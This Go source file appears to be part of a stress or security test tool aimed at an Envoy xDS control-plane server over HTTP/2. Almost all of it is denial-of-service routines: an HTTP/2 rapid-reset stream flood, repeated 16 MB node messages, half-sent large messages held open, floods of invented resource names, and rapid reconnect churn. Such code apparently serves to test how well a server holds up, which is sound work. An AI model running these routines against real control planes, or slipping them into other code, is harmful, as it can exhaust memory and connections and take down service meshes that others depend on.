package main

import (
	"context"
	"fmt"
	"io"
	"strings"

	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	discoveryv3 "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	typev3 "github.com/envoyproxy/go-control-plane/envoy/type/v3"
	resourcev3 "github.com/envoyproxy/go-control-plane/pkg/resource/v3"
	"golang.org/x/net/http2"
	"google.golang.org/protobuf/proto"
)

// request is a first request: the node with that id and the version of the healthy Envoy, and
// names.
func request(id, cluster string, names ...string) ([]byte, error) {
	return proto.Marshal(&discoveryv3.DeltaDiscoveryRequest{
		Node: &corev3.Node{
			Id: id, Cluster: cluster, UserAgentName: "envoy",
			UserAgentVersionType: &corev3.Node_UserAgentBuildVersion{UserAgentBuildVersion: &corev3.BuildVersion{
				Version: &typev3.SemanticVersion{MajorNumber: 1, MinorNumber: 40},
			}},
		},
		TypeUrl: resourcev3.ExtensionConfigType, ResourceNamesSubscribe: names,
	})
}

// rapidReset opens streams, asks for a filter and resets them at once.
func rapidReset(ctx context.Context, a *attack) {
	message, err := request("resetting", "attack", a.filter)
	if err != nil {
		return
	}
	const inSwing = 1000
	a.each(ctx, func(ctx context.Context, _ int) error {
		h, err := a.http2(ctx)
		if err != nil {
			return err
		}
		defer h.conn.Close()
		// The answers are dropped, but for the windows. The acknowledgement of the settings is left
		// out: the frames are written by this goroutine alone.
		go func() { _ = h.answerUntil(func(http2.Frame) bool { return false }) }()
		for ctx.Err() == nil {
			id, err := h.open()
			if err == nil {
				err = h.message(id, message, len(message))
			}
			if err == nil {
				err = h.frames.WriteRSTStream(id, http2.ErrCodeCancel)
				h.windows.forget(id)
			}
			if err != nil {
				a.refused.Add(1)
				return err
			}
			if a.streams.Add(1) == inSwing {
				a.ready()
			}
		}
		return nil
	})
}

// converse opens a stream, sends a message and waits for the end of the stream or the connection.
// The part of the message is sent.
func (a *attack) converse(ctx context.Context, part []byte, size int, until func(http2.Frame) bool) error {
	h, err := a.http2(ctx)
	if err != nil {
		return err
	}
	defer h.conn.Close()
	ended := make(chan error, 1)
	written := make(chan error, 1)
	go func() {
		ended <- h.answerUntil(until)
		h.windows.end(io.EOF) // nobody reads any more
	}()
	go func() {
		id, err := h.open()
		if err == nil {
			err = h.message(id, part, size)
		}
		written <- err
	}()
	a.streams.Add(1)
	select {
	case err = <-ended:
	case <-ctx.Done():
	}
	_ = h.conn.Close()
	h.windows.end(io.EOF)
	<-written
	return err
}

// answerUntil reads frames until the function says so, or the connection ends. It acknowledges
// nothing, because another goroutine writes.
func (h *h2) answerUntil(until func(http2.Frame) bool) error {
	for {
		f, err := h.frames.ReadFrame()
		if err != nil {
			h.windows.end(err)
			return err
		}
		h.windows.saw(f)
		if until(f) {
			return nil
		}
	}
}

// ends says whether a frame ends a stream or the connection.
func ends(f http2.Frame) bool {
	switch f := f.(type) {
	case *http2.HeadersFrame:
		return f.StreamEnded()
	case *http2.RSTStreamFrame, *http2.GoAwayFrame:
		return true
	}
	return false
}

// bigNode connects with nodes of 16 MB, again and again.
func bigNode(ctx context.Context, a *attack) {
	message, err := request("big", strings.Repeat("c", 16<<20), a.filter)
	if err != nil {
		return
	}
	a.each(ctx, func(ctx context.Context, _ int) error {
		err := a.converse(ctx, message, len(message), ends)
		if a.refused.Add(1) >= int64(a.n) {
			a.ready()
		}
		return err
	})
}

// halfSent sends most of a large message on each stream, and keeps the stream.
func halfSent(ctx context.Context, a *attack) {
	const size = 4 << 20
	part := make([]byte, size-1000)
	a.each(ctx, func(ctx context.Context, _ int) error {
		if a.opened.Load() >= int64(a.n) {
			a.ready()
		}
		err := a.converse(ctx, part, size, ends)
		a.refused.Add(1)
		return err
	})
}

// manyNames asks for new made-up names of a thousand bytes on each connection, a thousand at a
// time.
func manyNames(ctx context.Context, a *attack) {
	const atOnce, length = 1000, 1000
	pad := strings.Repeat("n", length-20)
	a.each(ctx, func(ctx context.Context, i int) error {
		h, err := a.http2(ctx)
		if err != nil {
			return err
		}
		defer h.conn.Close()
		over := make(chan struct{})
		go func() {
			defer close(over)
			_ = h.answerUntil(ends) // the error ends the writer, too
			h.windows.end(io.EOF)
		}()
		defer func() {
			_ = h.conn.Close()
			<-over
		}()
		id, err := h.open()
		if err != nil {
			return err
		}
		a.streams.Add(1)
		for ctx.Err() == nil && !a.isOver() {
			names := make([]string, atOnce)
			first := a.names.Add(atOnce)
			for j := range names {
				names[j] = fmt.Sprintf("%019d-%s", first+int64(j), pad)
			}
			message, err := request(fmt.Sprint("greedy-", i), "attack", names...)
			if err == nil {
				err = h.message(id, message, len(message))
			}
			if err != nil {
				a.refused.Add(1)
				return err
			}
			a.ready()
		}
		return nil
	})
}

// reconnects connects with a new node id each time, asks for a filter, and leaves after the first
// answer.
func reconnects(ctx context.Context, a *attack) {
	const inSwing = 200
	a.each(ctx, func(ctx context.Context, _ int) error {
		message, err := request(fmt.Sprint("new-", a.streams.Load()), "attack", a.filter)
		if err != nil {
			return err
		}
		answered := func(f http2.Frame) bool {
			_, is := f.(*http2.DataFrame)
			return is || ends(f)
		}
		if err = a.converse(ctx, message, len(message), answered); a.streams.Load() >= inSwing {
			a.ready()
		}
		if err != nil {
			a.refused.Add(1)
		}
		return err
	})
}
